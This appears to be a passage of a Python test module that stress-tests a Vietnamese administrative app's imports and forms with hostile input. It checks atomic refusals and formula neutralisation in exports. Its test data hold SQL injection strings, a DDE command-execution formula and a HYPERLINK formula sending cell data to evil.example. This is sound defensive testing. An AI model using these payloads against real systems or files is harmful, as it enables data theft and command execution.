"""Hostile input (issue 7): every import and every form fed random bytes, wrong encodings, huge fields, SQL
meta-characters, impossible dates, absurd numbers and spreadsheet formulas.

Each input is either stored exactly (as the documented cleaning leaves it: NFC, control characters and runs of
white space as one space, trimmed) or refused with a Vietnamese message naming the line and column (the field,
for a form). A refusal writes nothing: every table keeps its rows, byte for byte, and the file passes
``PRAGMA integrity_check`` after every attempt. Exports neutralise formulas, and re-import the exact text.

Every example runs on its own copy of a prepared database (the reference catalogue and a unit code), so that
what one example stored cannot decide the next one's outcome.
"""

from __future__ import annotations

import codecs
import csv
import hashlib
import io
import math
import re
import shutil
import tempfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass, field, replace
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlite_utils import Database

from cchc_desktop.domain.inspections import InspectionKind
from cchc_desktop.domain.papers import PaperKind
from cchc_desktop.domain.plans import ReformArea
from cchc_desktop.errors import CchcError, ValidationError
from cchc_desktop.services.exports import ExportService
from cchc_desktop.services.imports import ImportService
from cchc_desktop.services.inspection_import import InspectionImportService
from cchc_desktop.services.inspections import FindingInput, InspectionInput, InspectionService
from cchc_desktop.services.plans import PlanService, TaskInput
from cchc_desktop.services.printing import PrintingService
from cchc_desktop.services.reception import NewDossier, ReceptionService
from cchc_desktop.services.settings import SettingsService
from cchc_desktop.services.survey_import import SurveyImportService
from cchc_desktop.services.surveys import SurveyEntry, SurveyService
from cchc_desktop.services.tables import (
    DOSSIER_COLUMNS,
    FORMULA_STARTS,
    TASK_COLUMNS,
    ImportRejected,
    TableFileError,
    cell_text,
)
from cchc_desktop.services.task_import import TaskImportService
from cchc_desktop.text import clean, fold
from db.connection import open_db
from tests.unit.test_import_export import prepare, windows_1258

NOW = datetime(2025, 1, 15, 9, 0)
PROPERTY = settings(max_examples=20, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
# A letter only Vietnamese (among the languages a message could fall back to) writes.
VIETNAMESE = re.compile("[ăâđêôơưạảấầẩẫậắằẳẵặẹẻẽếềểễệỉịọỏốồổỗộớờởỡợụủứừửữựỳỵỷỹ]", re.IGNORECASE)
SQL = (
    "'; DROP TABLE dossier; --", "Robert'); DELETE FROM dossier; --", "1' OR '1'='1", '" OR ""="', "`x`; ATTACH 'a'",
    "\\'; %_ [*] ?1 :a @b $c", "O'Brien \"Bình\" Nguyễn",
)
FORMULAS = ('=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")', "=1+2", "+84 912", "-1", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0")
BAD_DATES = ("31/02/2024", "00/00/0000", "29/02/2023", "32/01/2024", "2024-02-30", "15/13/2024", "31/12/9999",
             "01/01/1900", "ngày mai", "1e308")
BAD_NUMBERS = ("1e308", "NaN", "-1", "inf", "-0", "1e-308", "9" * 400, "0x1F", "1_0", "½")
HUGE = "Ấ" * 100_000


# -- the imports, as data -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Kind:
    """One import: a valid row, how to run it, and where each text column's value is stored."""

    name: str
    header: tuple[str, ...]
    row: tuple[str, ...]
    run: Callable[[Database, Path], object]
    stored: dict[str, str]  # header → SQL reading the value stored from that column (the newest record)
    dates: tuple[str, ...] = ()
    numbers: tuple[str, ...] = ()
    limits: dict[str, int] = field(default_factory=dict)  # text columns shorter than the hostile texts
    generated: tuple[str, ...] = ()  # key columns that get a value when left empty

    def cells(self, **changed: str) -> list[str]:
        return [changed.get(header, value) for header, value in zip(self.header, self.row, strict=True)]


def _last(table: str, column: str) -> str:
    return f"SELECT {column} FROM {table} ORDER BY id DESC LIMIT 1"


KINDS = (
    Kind(
        "dossiers",
        ("Mã hồ sơ", "Mã thủ tục", "Chủ hồ sơ", "Số giấy tờ tùy thân", "Địa chỉ", "Ngày tiếp nhận", "Ngày hẹn trả",
         "Ngày có kết quả", "Ngày trả kết quả", "Trạng thái", "Ngày rút", "Ngày xin lỗi"),
        ("", "1.004873", "Nguyễn Thị Ưng", "038090012345", "Thôn 3, xã Hoằng Hợp", "03/06/2024 08:15", "",
         "", "", "Đã tiếp nhận", "", ""),
        lambda db, path: ImportService(db, clock=lambda: NOW).import_dossiers(path),
        {"Mã hồ sơ": _last("dossier", "code"), "Chủ hồ sơ": _last("dossier", "applicant_name"),
         "Địa chỉ": _last("dossier", "address")},
        dates=("Ngày tiếp nhận", "Ngày hẹn trả", "Ngày có kết quả", "Ngày trả kết quả", "Ngày rút", "Ngày xin lỗi"),
        numbers=("Số giấy tờ tùy thân",),
        generated=("Mã hồ sơ",),
    ),
    Kind(
        "procedures",
        ("Mã thủ tục", "Tên thủ tục", "Lĩnh vực", "Thời hạn giải quyết", "Khi bổ sung", "Phí, lệ phí"),
        ("9.000001", "Thủ tục đăng ký thử nghiệm", "Tư pháp - Hộ tịch", "3 ngày làm việc", "Tính lại", "Không"),
        lambda db, path: ImportService(db, clock=lambda: NOW).import_procedures(path),
        {"Mã thủ tục": _last("procedure", "code"), "Tên thủ tục": _last("procedure", "name"),
         "Lĩnh vực": "SELECT f.name FROM procedure p JOIN field f ON f.id = p.field_id ORDER BY p.id DESC LIMIT 1",
         "Phí, lệ phí": _last("procedure", "fee")},
        numbers=("Thời hạn giải quyết",),
    ),
    Kind(
        "surveys",
        ("Ngày khảo sát", "Mã hồ sơ", "Hình thức", "Mức độ hài lòng chung", "1.1", "Ý kiến khác"),
        ("03/06/2024", "", "Phát phiếu", "5", "4", "Cán bộ nhiệt tình"),
        lambda db, path: SurveyImportService(db, clock=lambda: NOW).import_surveys(path),
        {"Ý kiến khác": _last("survey", "comment")},
        dates=("Ngày khảo sát",),
        numbers=("Mức độ hài lòng chung", "1.1"),
    ),
    Kind(
        "inspections",
        ("Ngày kiểm tra", "Đối tượng được kiểm tra", "Hình thức", "Căn cứ", "Địa điểm", "Đoàn kiểm tra", "Kết luận",
         "Vấn đề phát hiện", "Thời hạn khắc phục", "Trách nhiệm khắc phục", "Ngày khắc phục", "Công chức vi phạm"),
        ("04/06/2024", "Bộ phận Tiếp nhận và Trả kết quả", "Đột xuất", "Kế hoạch số 12/KH-UBND", "Trụ sở UBND xã",
         "Lê Văn Minh", "Còn tồn tại", "Đến muộn 15 phút", "30/06/2024", "Trưởng bộ phận", "06/06/2024",
         "Nguyễn Thị Ưng"),
        lambda db, path: InspectionImportService(db, clock=lambda: NOW).import_inspections(path),
        {"Đối tượng được kiểm tra": _last("inspection", "subject"), "Căn cứ": _last("inspection", "basis"),
         "Địa điểm": _last("inspection", "place"), "Đoàn kiểm tra": _last("inspection", "inspectors"),
         "Kết luận": _last("inspection", "conclusion"), "Vấn đề phát hiện": _last("finding", "description"),
         "Trách nhiệm khắc phục": _last("finding", "responsible"),
         "Công chức vi phạm": _last("finding", "official_name")},
        dates=("Ngày kiểm tra", "Thời hạn khắc phục", "Ngày khắc phục"),
    ),
    Kind(
        "tasks",
        tuple(column.header for column in TASK_COLUMNS),
        ("1", "Niêm yết công khai thủ tục hành chính", "2", "Kế hoạch", "Văn phòng - Thống kê", "Công an xã",
         "31/03/2024", "Hoàn thành", "28/03/2024", "Thông báo số 5/TB-UBND", "Đã niêm yết đủ"),
        lambda db, path: TaskImportService(db, clock=lambda: NOW).import_tasks(path, year=2024),
        {"Số TT": _last("plan_task", "number"), "Nội dung nhiệm vụ": _last("plan_task", "title"),
         "Chủ trì": _last("plan_task", "lead"), "Phối hợp": _last("plan_task", "cooperating"),
         "Văn bản/kết quả": _last("plan_task", "evidence"), "Ghi chú": _last("plan_task", "progress_note")},
        dates=("Thời hạn", "Ngày hoàn thành"),
        numbers=("Lĩnh vực CCHC",),
        limits={"Số TT": 20},
        generated=("Số TT",),
    ),
)
BY_NAME = {kind.name: kind for kind in KINDS}
Fresh = Callable[[], AbstractContextManager[Database]]


def write_csv(path: Path, header: Sequence[str], rows: Sequence[Sequence[object]], *,
              encoding: str = "utf-8-sig", delimiter: str = ",") -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def write_xlsx(path: Path, header: Sequence[str], rows: Sequence[Sequence[object]]) -> Path:
    """A workbook as a user's spreadsheet holds it: texts stay texts (even ``=…``), numbers are numbers."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for values in (header, *rows):
        sheet.append(list(values))
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # Excel's '=… : a text, not a formula
    book.save(path)
    book.close()
    return path


def file_text(text: str) -> str:
    """What a text typed into a cell of a user's file becomes once read: a leading ``'`` before a formula sign
    (``'=1``, or ``''=1`` from an export of ``'=1``) is a text marker and is dropped; then the cleaning every
    import applies."""
    return cell_text(text[1:] if re.match(r"'+[=+\-@\t\r]", text) else text)


# -- the database before and after ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def ready_template(template_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The migrated template with the reference catalogue and a unit code, built once for the module."""
    path = tmp_path_factory.mktemp("ready") / "ready.sqlite3"
    shutil.copy(template_db, path)
    db = open_db(path)
    prepare(db)
    db.close()
    return path


@pytest.fixture
def fresh(ready_template: Path, tmp_path: Path) -> Fresh:
    """A factory of private copies of the prepared database (one per hypothesis example)."""

    @contextmanager
    def copy() -> Iterator[Database]:
        target = Path(tempfile.mkdtemp(dir=tmp_path)) / "cchc.sqlite3"
        shutil.copy(ready_template, target)
        db = open_db(target)
        try:
            yield db
        finally:
            db.close()
            for suffix in ("", "-wal", "-shm"):  # hundreds of examples: keep only the small files beside it
                Path(f"{target}{suffix}").unlink(missing_ok=True)

    return copy


def contents(db: Database) -> dict[str, tuple[int, str]]:
    """Every table's row count and a digest of its rows."""
    state = {}
    for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name").fetchall():
        rows = sorted(map(repr, db.execute(f'SELECT * FROM "{name}"').fetchall()))
        state[name] = (len(rows), hashlib.sha256("\n".join(rows).encode()).hexdigest())
    return state


def assert_sound(db: Database) -> None:
    assert db.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []


def attempt(db: Database, action: Callable[[], object]) -> tuple[object | None, CchcError | None]:
    """Run ``action``: its result, or the CchcError it raised, after which nothing may have changed. Any other
    exception (a raw sqlite3 error, a ValueError...) is a bug and fails the test."""
    before = contents(db)
    try:
        result = action()
    except CchcError as exc:
        assert contents(db) == before, "a refused input changed the database"
        assert_sound(db)
        assert VIETNAMESE.search(str(exc)), f"not a Vietnamese message: {exc}"
        return None, exc
    assert_sound(db)
    return result, None


def named_columns(exc: CchcError, line: int = 2) -> set[str | None]:
    """The columns a refusal of the row at ``line`` names (each problem says «Dòng N, cột «…»: …»)."""
    assert isinstance(exc, ImportRejected), f"expected bad rows, got: {exc}"
    for problem in exc.problems:
        assert problem.line == line
        assert str(problem).startswith(f"Dòng {line}, cột «{problem.column}»: " if problem.column else f"Dòng {line}: ")
    return {problem.column for problem in exc.problems}


def import_row(
    db: Database, kind: Kind, folder: Path, cells: Sequence[object], *, fmt: str = "csv",
) -> tuple[object | None, CchcError | None]:
    path = folder / f"{kind.name}.{fmt}"
    (write_csv if fmt == "csv" else write_xlsx)(path, kind.header, [cells])
    return attempt(db, lambda: kind.run(db, path))


def stored(db: Database, kind: Kind, header: str) -> str:
    (value,) = db.execute(kind.stored[header]).fetchone()
    return value or ""


def db_file(db: Database) -> Path:
    (_seq, _name, path), = [line for line in db.execute("PRAGMA database_list").fetchall() if line[1] == "main"]
    return Path(path)


def folder_of(db: Database) -> Path:
    return db_file(db).parent


# -- random bytes and wrong encodings -------------------------------------------------------------------------

PREFIXES = (b"", b"PK\x03\x04", codecs.BOM_UTF16_LE, codecs.BOM_UTF8, b"\xd0\xcf\x11\xe0", b"\x00\x00")


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
@PROPERTY
@given(prefix=st.sampled_from(PREFIXES), header=st.booleans(), body=st.binary(max_size=600),
       suffix=st.sampled_from([".csv", ".xlsx", ".txt"]))
def test_random_bytes_give_a_message_for_the_file_and_write_nothing(
    fresh: Fresh, kind: Kind, prefix: bytes, header: bool, body: bytes, suffix: str,
) -> None:
    with fresh() as db:
        path = folder_of(db) / f"rac{suffix}"
        head = (",".join(kind.header) + "\r\n").encode() if header else b""
        path.write_bytes(prefix + head + body)
        before = contents(db)
        _result, error = attempt(db, lambda: kind.run(db, path))
        if isinstance(error, TableFileError):
            assert path.name in str(error)
        elif isinstance(error, ImportRejected):
            assert error.problems and all(str(problem).startswith(f"Dòng {problem.line}") for problem in error.problems)
        elif error is not None:
            assert isinstance(error, ValidationError) and kind.name == "tasks"  # the plan's year cannot be told
        else:
            assert contents(db) == before  # a header and no row: nothing to write


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_windows_1258_is_refused_naming_the_line_and_utf16_reads_like_utf8(
    fresh: Fresh, kind: Kind,
) -> None:
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows([kind.header, kind.row])
    text = buffer.getvalue()
    with fresh() as db:
        legacy = folder_of(db) / "cp1258.csv"
        legacy.write_bytes(windows_1258(text))
        _result, error = attempt(db, lambda: kind.run(db, legacy))
        assert isinstance(error, TableFileError)
        assert str(error).startswith("Tệp «cp1258.csv» không phải văn bản UTF-8: byte 0x")
        assert re.search(r"ở dòng [12] không đọc được", str(error)) and "Chưa ghi dữ liệu nào" in str(error)
        no_bom = folder_of(db) / "utf16le.csv"
        no_bom.write_bytes(text.encode("utf-16-le"))
        _result, error = attempt(db, lambda: kind.run(db, no_bom))
        assert isinstance(error, TableFileError) and "chứa ký tự NUL" in str(error)
    with fresh() as db:
        plain = folder_of(db) / "utf8.csv"
        plain.write_text(text, encoding="utf-8")
        kind.run(db, plain)
        expected = contents(db)
    for encoding in ("utf-16", "utf-16-be", "utf-8-sig"):
        with fresh() as db:
            other = folder_of(db) / f"{encoding}.csv"
            data = text.encode(encoding)
            other.write_bytes(codecs.BOM_UTF16_BE + data if encoding == "utf-16-be" else data)
            result, error = attempt(db, lambda: kind.run(db, other))  # noqa: B023 (called at once)
            assert error is None and result is not None
            texts = {header: stored(db, kind, header) for header in kind.stored}
            assert texts == {header: file_text(kind.row[kind.header.index(header)]) or texts[header]
                             for header in kind.stored}
            differs = {name for name, state in contents(db).items() if state != expected[name]}
            assert differs <= {"dossier_event", "audit_log"}, differs  # the file's name is in the receipt event


# -- huge fields ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
@pytest.mark.parametrize(("fmt", "size"), [("csv", 100_000), ("xlsx", 32_767)])  # 32,767: the most an Excel cell holds
def test_a_huge_cell_is_named_by_line_and_column(fresh: Fresh, kind: Kind, fmt: str, size: int) -> None:
    for header in kind.stored:
        with fresh() as db:
            _result, error = import_row(db, kind, folder_of(db), kind.cells(**{header: HUGE[:size]}), fmt=fmt)
            assert error is not None
            assert header in named_columns(error)
            assert any("quá dài (tối đa" in str(problem) for problem in error.problems)


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_a_cell_beyond_what_csv_reads_refuses_the_file(fresh: Fresh, kind: Kind) -> None:
    header = next(iter(kind.stored))
    with fresh() as db:
        _result, error = import_row(db, kind, folder_of(db), kind.cells(**{header: "x" * 200_000}))
        assert isinstance(error, TableFileError)
        assert str(error) == (f"Tệp «{kind.name}.csv» không đọc được ở dòng 2: có một ô dài quá 131.072 ký tự. "
                              "Chưa ghi dữ liệu nào.")


# -- SQL meta-characters, quotes, control characters in every text cell ---------------------------------------


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_sql_meta_characters_quotes_and_formulas_in_every_text_cell_are_stored_exactly(
    fresh: Fresh, kind: Kind, fmt: str,
) -> None:
    """Every text column gets every hostile text (all columns at once, one text each, turn by turn); a column
    shorter than a text gets its beginning."""
    texts = (*SQL, *FORMULAS)
    headers = sorted(kind.stored)
    for turn in range(len(texts)):
        written = {header: texts[(position + turn) % len(texts)][:kind.limits.get(header)].rstrip()
                   for position, header in enumerate(headers)}
        with fresh() as db:
            tables = contents(db).keys()
            _result, error = import_row(db, kind, folder_of(db), kind.cells(**written), fmt=fmt)
            assert error is None, f"{written}: {error}"
            assert {header: stored(db, kind, header) for header in headers} == written
            assert contents(db).keys() == tables


@pytest.mark.parametrize(("delimiter", "name"), [(",", "Lê;" * 60), (";", "Lê," * 60), ("\t", "Lê;" * 60)],
                         ids=["comma", "semicolon", "tab"])
def test_a_cell_full_of_another_separator_does_not_decide_the_separator(
    fresh: Fresh, delimiter: str, name: str,
) -> None:
    kind = BY_NAME["dossiers"]
    with fresh() as db:
        path = write_csv(folder_of(db) / "hoso.csv", kind.header, [kind.cells(**{"Chủ hồ sơ": name})],
                         delimiter=delimiter)
        _result, error = attempt(db, lambda: kind.run(db, path))
        assert error is None, error
        assert stored(db, kind, "Chủ hồ sơ") == name


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_a_nul_character_refuses_the_csv_file(fresh: Fresh, kind: Kind) -> None:
    with fresh() as db:
        _result, error = import_row(db, kind, folder_of(db), kind.cells(**{next(iter(kind.stored)): "An\x00Bình"}))
        assert isinstance(error, TableFileError)
        assert str(error).startswith(f"Tệp «{kind.name}.csv» chứa ký tự NUL")


HOSTILE_TEXT = st.one_of(
    st.sampled_from([*SQL, *FORMULAS, "'=1+2", "''=1", "   ", "", "\u202eNguyễn", "e\u0301 Ư\u031b", "😀 \t\r\n x",
                     "\x1b[31m", "a\u2028b\x85c", "\ufeffBOM", "Ấ" * 250]),
    st.text(alphabet=st.sampled_from("'\";-=+@\\%_*?[](){}`$#\t\r\n ăĐơư0123456789aZ"), max_size=40),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=80),
)


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
@settings(PROPERTY, max_examples=40)
@given(data=st.data(), text=HOSTILE_TEXT, fmt=st.sampled_from(["csv", "xlsx"]))
def test_any_text_in_any_text_cell_is_stored_as_cleaned_or_named(
    fresh: Fresh, kind: Kind, data: st.DataObject, text: str, fmt: str,
) -> None:
    header = data.draw(st.sampled_from(sorted(kind.stored)), label="column")
    if fmt == "xlsx":
        text = ILLEGAL_CHARACTERS_RE.sub("", text)  # what a workbook can hold at all
    with fresh() as db:
        _result, error = import_row(db, kind, folder_of(db), kind.cells(**{header: text}), fmt=fmt)
        expected = file_text(text)
        if error is not None:
            assert named_columns(error) == {header}, error
        elif expected or header not in kind.generated:
            assert stored(db, kind, header) == expected


# -- impossible dates and absurd numbers ---------------------------------------------------------------------


@pytest.mark.parametrize("kind", [kind for kind in KINDS if kind.dates], ids=lambda kind: kind.name)
@pytest.mark.parametrize("day", BAD_DATES)
def test_impossible_dates_are_named_by_line_and_column(
    fresh: Fresh, kind: Kind, day: str,
) -> None:
    for header in kind.dates:
        with fresh() as db:
            _result, error = import_row(db, kind, folder_of(db), kind.cells(**{header: day}))
            assert error is not None, f"{header} = {day} was accepted"
            assert header in named_columns(error)
            assert any(day in str(problem) for problem in error.problems if problem.column == header)


def _impossible(day: int, month: int, year: int) -> bool:
    try:
        date(year, month, day)
    except ValueError:
        return True
    return False


@PROPERTY
@given(data=st.data(), triple=st.tuples(st.integers(0, 99), st.integers(0, 99), st.integers(0, 9999)).filter(
    lambda triple: _impossible(*triple)))
def test_any_impossible_day_month_year_is_named(
    fresh: Fresh, data: st.DataObject, triple: tuple[int, int, int],
) -> None:
    day, month, year = triple
    kind = data.draw(st.sampled_from([kind for kind in KINDS if kind.dates]), label="import")
    header = data.draw(st.sampled_from(kind.dates), label="column")
    with fresh() as db:
        _result, error = import_row(db, kind, folder_of(db), kind.cells(**{header: f"{day:02d}/{month:02d}/{year}"}))
        assert error is not None and header in named_columns(error)


@pytest.mark.parametrize("kind", [kind for kind in KINDS if kind.numbers], ids=lambda kind: kind.name)
@pytest.mark.parametrize("value", [*BAD_NUMBERS, 1e308, -1, -1e-308, 2.5, 0])  # a workbook cannot hold NaN or ∞
def test_absurd_numbers_are_named_by_line_and_column(
    fresh: Fresh, kind: Kind, value: str | float,
) -> None:
    fmt = "csv" if isinstance(value, str) else "xlsx"
    for header in kind.numbers:
        if kind.name == "tasks" and value == 0:
            continue  # area 0 exists (Công tác chỉ đạo, điều hành)
        with fresh() as db:
            _result, error = import_row(db, kind, folder_of(db), kind.cells(**{header: value}), fmt=fmt)
            assert error is not None, f"{header} = {value!r} was accepted"
            assert named_columns(error) == {header}


NUMBERS = st.one_of(st.integers(-10, 10**13), st.floats(allow_nan=True, allow_infinity=True),
                    st.sampled_from([*BAD_NUMBERS, "4.0", "4,0", "04", " 3 ", "٣", "3 ngày", "Trong ngày"]))


@PROPERTY
@given(data=st.data(), value=NUMBERS)
def test_a_number_cell_is_stored_as_the_number_written_or_named(
    fresh: Fresh, data: st.DataObject, value: int | float | str,
) -> None:
    kind = data.draw(st.sampled_from([kind for kind in KINDS if kind.numbers]), label="import")
    header = data.draw(st.sampled_from(kind.numbers), label="column")
    fmt = "csv" if isinstance(value, str) else data.draw(st.sampled_from(["csv", "xlsx"]), label="format")
    if isinstance(value, float) and not math.isfinite(value) and fmt == "xlsx":
        fmt = "csv"  # a workbook cannot hold NaN or ∞ (openpyxl writes an empty cell)
    with fresh() as db:
        _result, error = import_row(db, kind, folder_of(db), kind.cells(**{header: value}), fmt=fmt)
        if error is not None:
            assert named_columns(error) == {header}
            return
        queries = {"Số giấy tờ tùy thân": _last("dossier", "applicant_id"),
                   "Thời hạn giải quyết": _last("procedure", "time_limit"),
                   "Mức độ hài lòng chung": _last("survey", "overall"),
                   "1.1": "SELECT score FROM survey_answer ORDER BY rowid DESC LIMIT 1",
                   "Lĩnh vực CCHC": _last("plan_task", "area")}
        (kept,) = db.execute(queries[header]).fetchone()
        if header == "Số giấy tờ tùy thân":
            assert kept.isascii() and kept.isdigit() and len(kept) in (9, 12)
            assert int(kept) == int(float(value)) if not isinstance(value, str) else kept == "".join(value.split())
        elif header == "Thời hạn giải quyết":
            assert kept == 0 if "trong ngay" in cell_text(str(value)).lower().replace("à", "a") else 1 <= kept <= 999
        else:
            low, high = (0, 6) if header == "Lĩnh vực CCHC" else (1, 5)
            assert low <= kept <= high
            if not isinstance(value, str):
                assert kept == value


# -- formulas out and back ------------------------------------------------------------------------------------


def export_cells(db: Database, target: Path) -> list[list[object]]:
    ExportService(db).export_dossiers(target, reason="kiểm thử xuất dữ liệu")
    if target.suffix == ".csv":
        with target.open(encoding="utf-8-sig", newline="") as handle:
            return list(csv.reader(handle))[1:]
    book = openpyxl.load_workbook(target)
    sheet = book.worksheets[0]
    try:
        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
        return [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    finally:
        book.close()


def assert_inert(rows: list[list[object]]) -> None:
    """No cell a spreadsheet would run: none starts with a formula sign."""
    for cells in rows:
        for value in cells:
            assert not (isinstance(value, str) and value.startswith(FORMULA_STARTS)), value


FORMULA_TEXT = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from(["=", "+", "-", "@", "'=", "'+", "'-", "''=", "'''@", "\t=", "\r@", '=HYPERLINK("http://evil","x")']),
    st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=40),
)
DOSSIER_HEADERS = [column.header for column in DOSSIER_COLUMNS]


@settings(PROPERTY, max_examples=25)
@given(name=FORMULA_TEXT, address=st.one_of(st.just(""), FORMULA_TEXT), fmt=st.sampled_from(["csv", "xlsx"]))
def test_formulas_are_neutralised_in_exports_and_come_back_exactly(
    fresh: Fresh, name: str, address: str, fmt: str,
) -> None:
    kind = BY_NAME["dossiers"]
    with fresh() as db:
        _result, error = import_row(db, kind, folder_of(db), kind.cells(**{"Chủ hồ sơ": name, "Địa chỉ": address}))
        assert error is None, error
        original = db.execute("SELECT code, applicant_name, address FROM dossier").fetchall()
        assert original[0][1] == file_text(name)
        exported = folder_of(db) / f"xuat.{fmt}"
        assert_inert(export_cells(db, exported))
    with fresh() as db:
        _result, error = attempt(db, lambda: kind.run(db, exported))
        assert error is None, error
        assert db.execute("SELECT code, applicant_name, address FROM dossier").fetchall() == original


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_hyperlink_applicant_is_exported_inert_and_reimported_exactly(
    fresh: Fresh, fmt: str,
) -> None:
    hostile = '=HYPERLINK("http://evil","x")'
    kind = BY_NAME["dossiers"]
    with fresh() as db:
        import_row(db, kind, folder_of(db), kind.cells(**{"Chủ hồ sơ": hostile, "Địa chỉ": "'=1+2"}))
        assert db.execute("SELECT applicant_name, address FROM dossier").fetchall() == [(hostile, "=1+2")]
        exported = folder_of(db) / f"xuat.{fmt}"
        (cells,) = export_cells(db, exported)
        assert cells[DOSSIER_HEADERS.index("Chủ hồ sơ")] == "'" + hostile
        assert cells[DOSSIER_HEADERS.index("Địa chỉ")] == "'=1+2"
        assert_inert([cells])
    with fresh() as db:
        kind.run(db, exported)
        assert db.execute("SELECT applicant_name, address FROM dossier").fetchall() == [(hostile, "=1+2")]


def test_a_stored_text_that_starts_with_an_apostrophe_and_a_sign_survives_the_round_trip(
    fresh: Fresh,
) -> None:
    """«'=1» typed at the desk is kept with its apostrophe through an export and a re-import."""
    kind = BY_NAME["dossiers"]
    with fresh() as db:
        ReceptionService(db, clock=lambda: NOW).register(NewDossier(procedure_code="1.004873",
                                                                   applicant_name="'=1+2", address="'-3"))
        exported = folder_of(db) / "xuat.csv"
        (cells,) = export_cells(db, exported)
        assert cells[DOSSIER_HEADERS.index("Chủ hồ sơ")] == "''=1+2"
    with fresh() as db:
        kind.run(db, exported)
        assert db.execute("SELECT applicant_name, address FROM dossier").fetchall() == [("'=1+2", "'-3")]


# -- the forms --------------------------------------------------------------------------------------------------

FORM_TEXT = st.one_of(  # a NUL alone: see test_a_nul_character_alone_is_an_empty_field
    st.sampled_from([*SQL, *FORMULAS, "Nguyễn\x00Văn", "   ", "", "\u202eNguyễn", HUGE, "Ấ" * 2001,
                     "a\nb\r\nc", "😀", "²", "ten@example.vn", "0912 345 678", "038 090 012 345"]),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=60),
)


def _email_ok(text: str) -> bool:
    return bool(re.fullmatch(r"[^@\s]+@[^@\s]+\.[^@\s]+", clean(text)))


@settings(PROPERTY, max_examples=60)
@given(field_name=st.sampled_from(["applicant_name", "applicant_id", "phone", "address", "email", "note",
                                   "procedure_code"]), text=FORM_TEXT)
def test_reception_form_stores_any_text_as_cleaned_or_names_the_field(
    fresh: Fresh, field_name: str, text: str,
) -> None:
    with fresh() as db:
        service = ReceptionService(db, clock=lambda: NOW)
        form = replace(NewDossier(procedure_code="1.004873", applicant_name="Nguyễn Thị Ưng"), **{field_name: text})
        result, error = attempt(db, lambda: service.register(form))
        if error is not None:
            assert isinstance(error, ValidationError) and set(error.errors) == {field_name}, error
            return
        kept = getattr(service.get(result.code).dossier, field_name, None) or ""
        if field_name in ("applicant_id", "phone") and not kept:
            assert not clean(text)  # left empty
        elif field_name == "applicant_id":
            assert kept == "".join(text.split()) and kept.isascii() and kept.isdigit() and len(kept) in (9, 12)
        elif field_name == "phone":
            assert kept.isascii() and kept.isdigit() and 10 <= len(kept) <= 11
        elif field_name == "procedure_code":
            assert clean(text) == "1.004873"
        else:
            assert kept == clean(text)
            assert field_name != "email" or not kept or _email_ok(kept)


@settings(PROPERTY, max_examples=30)
@given(field_name=st.sampled_from(["comment", "dossier_code", "method"]), text=FORM_TEXT)
def test_survey_form_stores_any_text_as_cleaned_or_names_the_field(
    fresh: Fresh, field_name: str, text: str,
) -> None:
    with fresh() as db:
        service = SurveyService(db, clock=lambda: NOW)
        entry = replace(SurveyEntry(taken_on=date(2024, 6, 3), overall=5, answers={"1.1": 4}), **{field_name: text})
        result, error = attempt(db, lambda: service.record(entry))
        if error is not None:
            assert isinstance(error, ValidationError) and set(error.errors) == {field_name}, error
            return
        survey = service.get(result.id)
        if field_name == "comment":
            assert survey.comment == clean(text)
        elif field_name == "method":  # a method chosen by its key or its label
            assert fold(text) in (survey.method.value, fold(survey.method.label))
        else:
            assert not clean(text) and survey.dossier_code == ""  # no dossier named, none linked


TASK_FIELDS = ("title", "number", "lead", "cooperating", "evidence", "progress_note")


@settings(PROPERTY, max_examples=50)
@given(field_name=st.sampled_from(TASK_FIELDS), text=FORM_TEXT)
def test_plan_task_form_stores_any_text_as_cleaned_or_names_the_field(
    fresh: Fresh, field_name: str, text: str,
) -> None:
    with fresh() as db:
        service = PlanService(db, clock=lambda: NOW)
        service.save_plan(year=2024)
        task = replace(TaskInput(title="Niêm yết công khai thủ tục", area=ReformArea.PROCEDURES), **{field_name: text})
        result, error = attempt(db, lambda: service.add_task(year=2024, task=task))
        if error is not None:
            assert isinstance(error, ValidationError) and set(error.errors) == {field_name}, error
            return
        kept = getattr(service.task(result.id), field_name)
        if field_name == "number":
            assert kept == (clean(text).rstrip(".").strip() or "1")
        else:
            assert kept == clean(text)


INSPECTION_FIELDS = ("subject", "basis", "place", "inspectors", "conclusion", "kind", "subject_kind")
FINDING_FIELDS = ("description", "responsible", "official_name", "measure")


@settings(PROPERTY, max_examples=60)
